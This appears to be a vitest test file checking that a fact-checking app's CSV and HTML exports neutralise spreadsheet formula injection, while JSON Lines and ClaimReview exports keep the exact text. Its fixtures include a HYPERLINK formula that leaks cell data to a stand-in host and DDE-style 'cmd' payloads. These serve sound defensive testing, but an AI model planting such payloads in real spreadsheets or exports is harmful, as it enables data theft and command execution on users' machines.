import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from './support/app';
import { createArticle, createClaim, createDesk, type Desk } from './support/desk';
import { neutralizeFormula } from '../src/modules/report/formats/formula';
import { createSource, publishClaim } from './report-fixture';

// Each line starts with a character a spreadsheet reads as the start of a formula.
const LINES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click") was pasted into the story.',
  '+1 555 0100 is the number the mayor gave.',
  '-5% is what the council cut from the schools budget.',
  "@SUM(1+1)*cmd|' /C calc'!A0 appeared in the comments.",
  'A plain sentence stays as it is.',
  'The sheet said\t=1+1 in a cell.',
];
const QUOTES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  '+1 555 0100',
  '-5% is what the council cut',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'A plain sentence stays as it is.',
  '\t=1+1 in a cell',
];
const RATIONALES = ['=1+1 as the rationale', null, null, null, null, null];

describe(neutralizeFormula.name, () => {
  it('prefixes text starting with =, +, -, @, tab or carriage return, and nothing else', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralizeFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ['1+1', ' =1', 'a=1', '\n=1', '', "'=1"]) expect(neutralizeFormula(safe)).toBe(safe);
    expect(neutralizeFormula(-5)).toBe(-5);
    expect(neutralizeFormula(null)).toBe(null);
  });
});

describe('spreadsheet-safe downloads', () => {
  let app: TestApp;
  let base: string;
  let desk: Desk;
  let token: string;

  beforeAll(async () => {
    app = await createTestApp();
    base = await app.listen();
    desk = await createDesk(app);
    token = (await app.ok(desk.viewer, `mutation { createApiToken(input: { name: "formula" }) { token } }`)).createApiToken.token;
    const { id: articleId } = await createArticle(app, desk, { title: "=cmd|' /C calc'!A0", text: LINES.join('\n') });
    const speaker = await createSource(app, desk, { kind: 'PERSON', name: '@mention Person' });
    for (const [index, quote] of QUOTES.entries()) {
      const { id } = await createClaim(app, desk, articleId, quote, { speakerId: speaker });
      const rationale = RATIONALES[index];
      if (rationale) await publishClaim(app, desk, id, 'FALSE', { rationale });
    }
  });
  afterAll(() => app?.close());

  const download = (path: string) => fetch(`${base}${path}`, { headers: { authorization: `Bearer ${token}` } });

  it('prefixes with a single quote every CSV cell that starts with =, +, -, @, tab or CR, and no other', async () => {
    const response = await download(`/exports/verdicts.csv?team=${desk.teamSlug}`);
    expect(response.status).toBe(200);
    const records: Record<string, string>[] = parse(Buffer.from(await response.arrayBuffer()), { bom: true, columns: true });
    expect(records.map((record) => record.quote)).toEqual(QUOTES.map((quote) => (quote === QUOTES[4] ? quote : `'${quote}`)));
    expect(records.map((record) => record.published_rationale)).toEqual(["'=1+1 as the rationale", '', '', '', '', '']);
    for (const record of records) {
      expect(record.article_title).toBe("'=cmd|' /C calc'!A0");
      expect(record.speaker).toBe("'@mention Person");
      expect(record.article_url).toBe('https://news.example.com/budget');
      // no cell of the file starts a formula any more
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('neutralises the same cells in the HTML report', async () => {
    const html = await (await download(`/exports/verdicts.html?team=${desk.teamSlug}`)).text();
    expect(html).toContain('<td class="quote">&#39;=HYPERLINK(');
    expect(html).toContain('<td class="quote">&#39;+1 555 0100</td>');
    expect(html).toContain('<td class="quote">&#39;-5% is what the council cut</td>');
    expect(html).toContain('<td class="quote">A plain sentence stays as it is.</td>');
    expect(html).toContain('<td>&#39;@mention Person<div');
    expect(html).toContain('scope="rowgroup">&#39;=cmd|');
  });

  it('keeps the exact text in JSON Lines and ClaimReview', async () => {
    const lines = (await (await download(`/exports/verdicts.jsonl?team=${desk.teamSlug}`)).text())
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.map((line) => line.quote)).toEqual(QUOTES);
    expect(lines[0].published.rationale).toBe(RATIONALES[0]);
    expect(lines[0].speaker.name).toBe('@mention Person');
    const graph = (await (await download(`/exports/verdicts.claimreview.jsonld?team=${desk.teamSlug}`)).json())['@graph'];
    expect(graph.map((review: any) => review.claimReviewed)).toEqual([QUOTES[0]]);
    expect(graph.map((review: any) => review.reviewBody)).toEqual([RATIONALES[0]]);
  });
});
